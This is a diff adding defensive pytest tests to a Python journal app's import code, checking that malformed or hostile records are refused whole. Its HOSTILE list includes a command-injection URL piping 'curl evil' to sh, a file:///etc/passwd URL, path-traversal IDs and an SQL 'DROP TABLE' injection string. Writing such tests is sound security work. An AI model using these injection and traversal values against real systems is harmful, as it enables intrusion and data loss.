@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 from collections.abc import Sequence
 
@@ -9,14 +10,21 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from gumnut_tui.api.address import base_address
 from gumnut_tui.domain.errors import UsageProblem
 from gumnut_tui.domain.models import Entity, to_us
 from gumnut_tui.journal import export_import as transfer
 from gumnut_tui.journal import libraries, pages, snapshots
 from gumnut_tui.journal.database import Database
+from gumnut_tui.journal.records import LibraryRecord
 from tests.factories import NOW, make_event
 from tests.journal.memory import memory_database
 from tests.journal.sources import KEY, page_of
+
+
+def taken_in(db: Database, lines: Sequence[bytes]) -> list[LibraryRecord]:
+    """Import lines by the rules for addresses that hold everywhere."""
+    return transfer.import_(db, lines, base_address)
 
 
 def exported(db: Database) -> list[bytes]:
@@ -45,12 +53,12 @@ def filled(texts: Sequence[str] = ("a",)) -> Database:
     return db
 
 
-@given(st.lists(st.text(max_size=8), max_size=5))
+@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=8), max_size=5))
 def test_what_goes_out_comes_in_again(texts: list[str]) -> None:
     """A journal made of the lines of another gives the same lines."""
     lines = exported(filled(texts))
     other = memory_database()
-    assert len(transfer.import_(other, lines)) == 2
+    assert len(taken_in(other, lines)) == 2
     assert exported(other) == lines
 
 
@@ -72,7 +80,7 @@ def test_a_file_without_a_library_is_refused() -> None:
     """An export that was cut off before its first line must not pass for a success."""
     for lines in ([], [b"\n"]):
         with pytest.raises(UsageProblem, match="no library"):
-            transfer.import_(memory_database(), lines)
+            taken_in(memory_database(), lines)
 
 
 def test_a_cut_off_file_is_refused_whole() -> None:
@@ -82,7 +90,7 @@ def test_a_cut_off_file_is_refused_whole() -> None:
     for count in set(range(len(lines))) - whole:
         other = memory_database()
         with pytest.raises(UsageProblem, match="cannot be taken in"):
-            transfer.import_(other, lines[:count])
+            taken_in(other, lines[:count])
         assert libraries.all_libraries(other) == []
 
 
@@ -102,5 +110,111 @@ def test_lines_that_do_not_fit_are_refused_by_number(change, words: str) -> None
     lines = change(exported(filled(["a", "b"])))
     other = memory_database()
     with pytest.raises(UsageProblem, match=words):
-        transfer.import_(other, lines)
+        taken_in(other, lines)
     assert libraries.all_libraries(other) == []
+
+
+HEAD = {
+    "record": "library", "format": 1, "base_url": "https://api.example.com", "account": "user_1", "library_id": "lib_1",
+    "name": "Family", "since": None, "began": "2026-11-20T12:00:00Z", "synced": None, "cursor": None,
+}  # fmt: skip
+EVENT = {
+    "record": "event", "cursor": "c", "entity_type": "asset", "entity_id": "a", "event_type": "asset_created",
+    "created_at": "2026-11-20T12:00:00Z", "payload": None,
+}  # fmt: skip
+SNAPSHOT = {
+    "record": "snapshot", "kind": "asset", "id": "a", "read_at": "2026-11-20T12:00:00Z",
+    "seen_at": "2026-11-20T12:00:00Z", "fields": {"id": "a"},
+}  # fmt: skip
+BREAK = {"record": "break", "at": "2026-11-20T12:00:00Z", "events": 0, "cursor": None, "reason": ""}
+UNREAD = {"record": "unread", "kind": "asset", "id": "b", "named_us": 0}
+HOSTILE = [
+    (HEAD, "base_url", "http://evil.example"),
+    (HEAD, "base_url", "https://user:secret@evil.example"),
+    (HEAD, "base_url", "https://evil.example/'; curl evil | sh; '"),
+    (HEAD, "base_url", "file:///etc/passwd"),
+    (HEAD, "base_url", "https://" + "x" * 5000),
+    (HEAD, "account", "../../etc"),
+    (HEAD, "library_id", ".."),
+    (HEAD, "library_id", "lib_1/../../assets"),
+    (HEAD, "library_id", "lib\\u0000"),
+    (HEAD, "library_id", 7),
+    (HEAD, "name", "n" * 100_000),
+    (HEAD, "name", ["Family"]),
+    (HEAD, "name", "\0"),
+    (HEAD, "began", "0001-01-01T00:00:00+14:00"),
+    (HEAD, "began", "9999-12-31T23:59:59-14:00"),
+    (HEAD, "began", "2026-11-20T12:00:00"),
+    (HEAD, "since", "0001-01-01T00:00:00Z"),
+    (HEAD, "synced", 10**40),
+    (HEAD, "cursor", "c" * 100_000),
+    (HEAD, "format", 10**30),
+    (EVENT, "created_at", "9999-12-31T23:59:59.999999-14:00"),
+    (EVENT, "created_at", "0001-01-01T00:00:00Z"),
+    (EVENT, "created_at", -1),
+    (EVENT, "entity_id", "x" * 100_000),
+    (EVENT, "entity_id", None),
+    (EVENT, "cursor", "\0"),
+    (EVENT, "entity_type", {"a": 1}),
+    (SNAPSHOT, "kind", "Asset'; DROP TABLE library; --"),
+    (SNAPSHOT, "kind", "../asset"),
+    (SNAPSHOT, "fields", []),
+    (SNAPSHOT, "read_at", "0001-01-01T00:00:00Z"),
+    (BREAK, "events", 2**70),
+    (BREAK, "events", -1),
+    (BREAK, "at", "9999-12-31T23:59:59.999999-01:00"),
+    (BREAK, "reason", "r" * 100_000),
+    (UNREAD, "named_us", 2**63),
+    (UNREAD, "named_us", -(2**63)),
+    (UNREAD, "named_us", 1.5),
+]
+
+
+@pytest.mark.parametrize(("line", "name", "value"), HOSTILE, ids=lambda value: str(value)[:30])
+def test_a_strangers_file_is_taken_by_its_rules_or_not_at_all(
+    line: dict[str, object], name: str, value: object
+) -> None:
+    """Wrong kinds, huge numbers and texts, the ends of time, paths: one error that names the line; nothing is kept."""
+    lines = [dict(one) for one in (HEAD, EVENT, BREAK, SNAPSHOT, UNREAD)]
+    at = next(number for number, one in enumerate(lines) if one["record"] == line["record"])
+    end = {"record": "end", "events": 1, "snapshots": 1}
+    assert len(taken_in(memory_database(), [_json(one) for one in (*lines, end)])) == 1
+    lines[at][name] = value
+    other = memory_database()
+    with pytest.raises(UsageProblem, match=f"line {at + 1} ") as caught:
+        taken_in(other, [_json(one) for one in (*lines, end)])
+    assert "\n" not in str(caught.value)
+    assert len(str(caught.value)) < 500
+    assert "secret" not in str(caught.value)
+    assert exported(other) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b'{"record":"event","cursor":"\\ud800"}',
+        b"\xff\xfe\n",
+        b"[" * 100_000,
+        b"9" * 10_000,
+        b"x" * (transfer.MOST_LINE_BYTES + 1),
+    ],
+    ids=["surrogate", "bytes", "deep", "number", "long"],
+)
+def test_bytes_that_are_no_line_are_refused(line: bytes) -> None:
+    """Half surrogate pairs, deep nesting, and a line without an end."""
+    other = memory_database()
+    with pytest.raises(UsageProblem, match="line 2 "):
+        taken_in(other, [_json(HEAD), line])
+    assert exported(other) == []
+
+
+def test_lines_are_read_with_a_bound() -> None:
+    """A file that is one line of any length is not held in memory."""
+    file = io.BytesIO(b"x" * (transfer.MOST_LINE_BYTES + 10) + b"\nabc\n")
+    lengths = [len(line) for line in transfer.lines_of(file)]
+    assert lengths[0] == transfer.MOST_LINE_BYTES + 1
+    assert sum(lengths) == transfer.MOST_LINE_BYTES + 15
+
+
+def _json(line: dict[str, object]) -> bytes:
+    return json.dumps(line).encode() + b"\n"
